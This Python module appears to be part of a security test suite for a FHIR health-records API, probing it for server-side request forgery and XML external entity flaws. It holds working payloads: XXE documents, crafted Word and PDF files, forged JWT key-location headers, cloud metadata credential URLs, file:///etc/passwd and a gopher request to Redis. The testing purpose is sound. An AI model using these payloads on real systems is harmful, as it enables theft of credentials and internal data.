"""
API-05: the server fetches an address that somebody put into a record, a file or a request (CWE-918, CWE-611).

The addresses lead to a listener of the attacker's on this machine, which sees every visit, and to where a cloud gives a
machine's credentials, where a visit shows by what is answered and how long that takes. What is planted is taken or
refused; either will do, as long as nobody comes. Where Meridian itself makes requests (partners) is API-03.
"""

import io
import json
import time
import zipfile
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from typing import Any, TypeAlias
from urllib.parse import quote, urlsplit

import httpx

from meridian.threats.attack import ARSENAL, Attack, Exchange, NotRun
from meridian.threats.attacker import FHIR, Attacker, Browser
from meridian.threats.attacks.data_01 import link, sent, until_scanned
from meridian.threats.listening import Listener, listener

THREAT = "API-05"
QUIET = 0.1
"""Seconds after what was asked was answered, within which nobody comes."""
SLOW = 5.0
"""Seconds after which an answer tells that something was waited for."""
JSON, XML = {"Content-Type": "application/fhir+json"}, {"Content-Type": "application/fhir+xml"}
METADATA = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials", "http://metadata.google.internal/computeMetadata/v1/", "file:///etc/passwd",
    "http://0xa9fea9fe/latest/meta-data/", "http://2852039166/latest/meta-data/", "gopher://127.0.0.1:6379/_INFO",
)  # fmt: skip
GIVEN_AWAY = (
    "security-credentials", "ami-id", "AccessKeyId", "root:x:0", "connection refused", "timed out", "no route to host",
    "name or service not known", "ConnectError", "redis_version",
)  # fmt: skip
"""What an answer says that saw the other side, or tried to; where an address is quoted it is taken out before."""

attack = ARSENAL.attack
Answers: TypeAlias = AsyncIterator[httpx.Response]
Plant: TypeAlias = Callable[[Browser, Attacker, str], Answers]


async def _kept(browser: Browser, resource: Mapping[str, Any]) -> Answers:
    """Write a resource, read it back in every way, and delete it."""
    kind = str(resource["resourceType"])
    made = await browser.ask("POST", f"{FHIR}/{kind}", resource, headers=JSON)
    yield made
    if made.status_code != httpx.codes.CREATED:
        return
    where = f"{FHIR}/{kind}/{made.json()['id']}"
    if kind == "DocumentReference" and (url := await link(browser, made.json()["id"])):
        yield await browser.ask("GET", url)
    for path, accept in (
        (where, "*/*"),
        (f"{where}?_summary=text", "text/html"),
        (f"{FHIR}/{kind}?_id={made.json()['id']}", ""),
    ):
        yield await browser.ask("GET", path, headers={"Accept": accept or "application/fhir+json"})
    await browser.ask("DELETE", where)


async def attachments(browser: Browser, attacker: Attacker, url: str) -> Answers:
    """Wherever a record may say that its content is elsewhere."""
    subject = {"reference": f"Patient/{attacker.material.people['patient'].id}"}
    attached, code = {"contentType": "application/pdf", "url": url, "title": "a"}, {"text": "verification"}
    for resource in (
        {"resourceType": "DocumentReference", "status": "current", "content": [{"attachment": attached}]},
        {
            "resourceType": "DiagnosticReport",
            "status": "final",
            "code": code,
            "subject": subject,
            "presentedForm": [attached],
        },
        {"resourceType": "Communication", "status": "completed", "payload": [{"contentAttachment": attached}]},
        {"resourceType": "Patient", "active": True, "photo": [attached]},
        {"resourceType": "Binary", "contentType": "application/pdf", "data": "", "securityContext": {"reference": url}},
    ):
        async for answer in _kept(browser, resource):
            yield answer


async def subscriptions(browser: Browser, _: Attacker, url: str) -> Answers:
    """A hook for whatever happens, and something that happens."""
    for criteria in ("Observation?status=final", "Patient"):
        channel = {"type": "rest-hook", "endpoint": url, "payload": "application/fhir+json"}
        hook = {"resourceType": "Subscription", "status": "requested", "reason": "verification", "criteria": criteria}
        yield await browser.ask("POST", f"{FHIR}/Subscription", {**hook, "channel": channel}, headers=JSON)
        yield await browser.ask(
            "PUT", f"{FHIR}/Subscription/verification", {**hook, "id": "verification", "channel": channel}, headers=JSON
        )
    async for answer in _kept(browser, {"resourceType": "Patient", "active": True}):
        yield answer


async def references(browser: Browser, _: Attacker, url: str) -> Answers:
    """A subject that is elsewhere, profiles and extensions to be looked up, and a search that follows them."""
    base = f"{url}/Patient/1"
    coded = {"coding": [{"system": url, "code": "x"}], "text": "verification"}
    observation = {
        "resourceType": "Observation", "status": "final", "code": coded, "subject": {"reference": base},
        "derivedFrom": [{"reference": f"{url}/Observation/1"}], "extension": [{"url": url, "valueUri": url}],
        "meta": {"profile": [url], "source": url}, "implicitRules": url,
    }  # fmt: skip
    async for answer in _kept(browser, observation):
        yield answer
    async for answer in _kept(browser, {key: value for key, value in observation.items() if key != "implicitRules"}):
        yield answer
    for query in (
        f"subject={quote(base)}",
        f"subject={quote(base)}&_include=Observation:subject",
        f"patient.organization={quote(url)}",
    ):
        yield await browser.ask("GET", f"{FHIR}/Observation?{query}")


async def looked_up(browser: Browser, _: Attacker, url: str) -> Answers:
    """Value sets, profiles and definitions that a search or an operation names."""
    there = quote(url, safe="")
    for path in (
        f"Observation?code:in={there}", f"Observation?code:below={there}", f"Patient?_profile={there}",
        f"Patient?_source={there}", f"Patient?_security={there}", f"ValueSet/$expand?url={there}",
        f"Observation/$validate?profile={there}", f"Questionnaire?url={there}", f"?_format={there}",
        f"CodeSystem/$lookup?system={there}&code=x", f"Patient/$export?_outputFormat={there}",
        f"$export?patient={there}", f"$import?url={there}", f"metadata?_source={there}",
    ):  # fmt: skip
        yield await browser.ask("GET", f"{FHIR}/{path}")
    inputs = {"inputFormat": "application/fhir+ndjson", "inputSource": url, "input": [{"type": "Patient", "url": url}]}
    for operation in ("$import", "$convert", "$process-message", "$validate"):
        yield await browser.ask("POST", f"{FHIR}/{operation}", inputs, headers=JSON)
    yield await browser.ask("POST", f"/api/imports?name={there}.ndjson", inputs)


async def bundles(browser: Browser, _: Attacker, url: str) -> Answers:
    """Entries whose addresses are elsewhere, and a page that is to be gone on from."""
    for kind in ("batch", "transaction", "collection", "searchset", "message"):
        entries = [
            {"fullUrl": url, "request": {"method": "GET", "url": url}},
            {
                "fullUrl": url,
                "resource": {"resourceType": "Patient"},
                "request": {"method": "POST", "url": url, "ifNoneExist": url},
            },
        ]
        body = {"resourceType": "Bundle", "type": kind, "entry": entries, "link": [{"relation": "next", "url": url}]}
        yield await browser.ask("POST", FHIR, body, headers=JSON)
    report = {
        "resourceType": "DiagnosticReport", "status": "final", "code": {"text": "x"}, "subject": {"reference": url},
        "identifier": [{"system": url, "value": "x"}], "presentedForm": [{"url": url}], "result": [{"reference": url}],
    }  # fmt: skip
    results = {"resourceType": "Bundle", "type": "collection", "entry": [{"fullUrl": url, "resource": report}]}
    yield await browser.ask("POST", "/api/results/intake", results, headers=JSON)


async def headers(browser: Browser, _: Attacker, url: str) -> Answers:
    """Headers by which proxies and callbacks are spoken of, and a token that says where its key is."""
    place = urlsplit(url).netloc
    for more in (
        {"X-Forwarded-Host": place}, {"X-Forwarded-Server": place}, {"Forwarded": f"host={place};proto=http"},
        {"X-Original-URL": url}, {"X-Rewrite-URL": url}, {"Referer": url}, {"X-Callback-URL": url},
        {"Link": f"<{url}>"}, {"True-Client-IP": place}, {"X-Wap-Profile": url}, {"Destination": url},
        {"Content-Location": url},
        {"Authorization": f"Bearer {_token(url)}", "Cookie": ""},
    ):  # fmt: skip
        yield await browser.ask("GET", f"{FHIR}/Patient?_count=1", headers=more)


def _token(url: str) -> str:
    """A token whose header says that its key is *there*, in every way of saying so (RFC 7515 section 4.1)."""
    import base64  # noqa: PLC0415  # one use

    said = json.dumps({"alg": "RS256", "jku": url, "x5u": url, "kid": url}).encode()
    return f"{base64.urlsafe_b64encode(said).rstrip(b'=').decode()}.e30.AAAA"


def _entities(url: str) -> bytes:
    """XML that has its parser fetch (OWASP, XML External Entity Prevention)."""
    return (
        f"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY e SYSTEM '{url}'><!ENTITY % p SYSTEM '{url}'> %p;]>"
        f"<?xml-stylesheet type='text/xsl' href='{url}'?><Patient xmlns='http://hl7.org/fhir' "
        f"xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{url}'/><language value='&e;'/></Patient>"
    ).encode()


async def xml(browser: Browser, _: Attacker, url: str) -> Answers:
    """Entities and includes, in every place that takes a body."""
    for path in (f"{FHIR}/Patient", FHIR, "/api/session", "/api/results/intake", "/oauth2/token"):
        for kind in (XML, {"Content-Type": "application/xml"}, JSON):
            yield await browser.ask("POST", path, content=_entities(url), headers=kind)


def _word(url: str) -> bytes:
    """A Word document whose template, picture and entities are elsewhere."""
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = "".join(
        f"<Relationship Id='r{no}' Type='{relation}/{kind}' Target='{url}' TargetMode='External'/>"
        for no, kind in enumerate(("attachedTemplate", "image", "oleObject", "hyperlink"))
    )
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("[Content_Types].xml", f"<!DOCTYPE t [<!ENTITY e SYSTEM '{url}'>]><Types>&e;</Types>")
        archive.writestr("word/document.xml", _entities(url))
        archive.writestr("word/_rels/document.xml.rels", f"<Relationships>{relations}</Relationships>")
    return packed.getvalue()


def _pdf(url: str) -> bytes:
    """A PDF that is to be opened with another one, a form and a link that are elsewhere."""
    action = f"<</S/URI/URI({url})>>"
    other = f"<</S/GoToR/F({url})/D[0/Fit]>>"
    objects = (
        f"<</Type/Catalog/Pages 2 0 R/OpenAction {action}/AA<</WC {other}>>>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A {action}>>]>>",
    )  # fmt: skip
    body = "%PDF-1.7\n" + "".join(f"{no} 0 obj{one}endobj\n" for no, one in enumerate(objects, 1))
    return f"{body}trailer<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF\n".encode()


async def uploads(browser: Browser, attacker: Attacker, url: str) -> Answers:
    """Files that are looked at when they come, and by a scanner afterwards."""
    page = (
        f"<html><img src='{url}'><link rel=stylesheet href='{url}'><meta http-equiv=refresh content='0;{url}'></html>"
    )
    svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'><image x:href='{url}'/></svg>"
    )
    patient = attacker.material.people["patient"].id
    documents = [await sent(browser, name, content, patient) for name, content in (
        ("a.docx", _word(url)), ("a.pdf", _pdf(url)), ("a.txt", page.encode()), ("a.svg", svg.encode()),
        ("a.html", page.encode()), ("a.xml", _entities(url)),
    )]  # fmt: skip
    for document in filter(None, documents):
        await until_scanned(browser, document)
        where = await link(browser, document)
        yield await browser.ask("GET", where or f"{FHIR}/DocumentReference/{document}")


async def paper(browser: Browser, attacker: Attacker, url: str) -> Answers:
    """Words with pictures and styles in them, which are then printed for the patient whose they are."""
    patient = attacker.material.people["patient"]
    div = f'<div xmlns="http://www.w3.org/1999/xhtml"><img src="{url}" alt=""/><a href="{url}">x</a></div>'
    words = f"<img src='{url}'> ![x]({url}) {url}"
    active = {"system": "http://terminology.hl7.org/CodeSystem/condition-clinical", "code": "active"}
    condition = {
        "resourceType": "Condition",
        "subject": {"reference": patient.record},
        "text": {"status": "additional", "div": div},
        "code": {"text": words},
        "note": [{"text": words}],
        "clinicalStatus": {"coding": [active]},
    }
    made = await browser.ask("POST", f"{FHIR}/Condition", condition, headers=JSON)
    yield made
    async with attacker.signed_in("patient") as own:
        printed = await own.ask("GET", f"/api/own/{patient.id}/record/print")
        if not printed.content.startswith(b"%PDF"):
            raise NotRun(f"the patient's record is not printed: {printed.status_code}")
        yield printed
    if made.status_code == httpx.codes.CREATED:
        await browser.ask("DELETE", f"{FHIR}/Condition/{made.json()['id']}")


PLANTS: dict[str, tuple[str, Plant]] = {
    "attachment": ("content of a record that is elsewhere", attachments),
    "subscription": ("a hook that somebody subscribed to", subscriptions),
    "reference": ("a reference, profile or extension", references),
    "lookup": ("a value set, definition or source of an import that a request names", looked_up),
    "bundle": ("an entry of a Bundle", bundles),
    "header": ("a header, or a token that says where its key is", headers),
    "xml": ("an entity or include of XML", xml),
    "upload": ("something in a file: templates, pictures, entities, actions", uploads),
    "paper": ("a picture in words that are printed", paper),
}


def planted(name: str, plant: Plant) -> Callable[[Attacker], Awaitable[str | None]]:
    """The attack that plants an address of a listener's, and waits for a visit."""

    async def run(attacker: Attacker) -> str | None:
        async with listener() as ear, attacker.signed_in("filer") as browser:
            count = 0
            async for answer in plant(browser, attacker, ear.address(name)):
                count += 1
                if said := _visited(ear):
                    return f"{said} came after {answer.request.method} {answer.request.url.path}"
            if not count:
                raise NotRun("nothing was planted")
            await ear.heard(QUIET)
            return f"{_visited(ear)} came" if ear.visits else None

    return run


def _visited(ear: Listener) -> str:
    return ear.visits[0].replace(ear.word, "…") if ear.visits else ""


for name, (title, plant) in PLANTS.items():
    ARSENAL.add(Attack(THREAT, f"api-05/{name}", f"The server fetches {title}", planted(name, plant)))


@attack(THREAT, "proxy", "The server passes a request on to the address that it names")
async def proxy(attacker: Attacker) -> str | None:
    """A target in absolute form, CONNECT, and another Host, as proxies take them (RFC 9112 section 3.2)."""
    async with listener() as ear, attacker.browser() as browser:
        place = urlsplit(ear.address("proxy")).netloc
        for method, extensions in (
            ("GET", {"target": ear.address("proxy").encode()}), ("CONNECT", {"target": place.encode()}),
            ("GET", {"target": f"//{place}/".encode()}), ("GET", {"target": f"@{place}/".encode()}),
        ):  # fmt: skip
            request = browser.client.build_request(method, "/", extensions=extensions)
            try:
                answer = await browser.client.send(request)
            except httpx.HTTPError as wrong:
                attacker.keep(Exchange(f"{method} elsewhere", type(wrong).__name__))
                continue
            attacker.remember(answer)
        await browser.ask("GET", f"{FHIR}/metadata", headers={"Host": place})
        await ear.heard(QUIET)
        return f"{_visited(ear)} came" if ear.visits else None


@attack(THREAT, "metadata", "The server asks where a cloud gives a machine's credentials")
async def metadata(attacker: Attacker) -> str | None:
    """Everything is planted with addresses of that kind, and of other schemes; answers and their times would tell."""
    async with listener(), attacker.signed_in("filer") as browser:
        for number, (name, (_, plant)) in enumerate(PLANTS.items()):
            if name in {"upload", "paper"}:
                continue  # what they print or hand out holds the address itself
            url = METADATA[number % len(METADATA)]
            began = time.monotonic()
            async for answer in plant(browser, attacker, url):
                took, began = time.monotonic() - began, time.monotonic()
                words = answer.text.replace(url, "").replace(quote(url, safe=""), "").lower()
                if told := next((sign for sign in GIVEN_AWAY if sign.lower() in words), ""):
                    return f"{told!r} stands in the answer to {answer.request.method} {answer.request.url.path}"
                if took >= SLOW:
                    return f"an answer took {took:.1f} s"
        return None
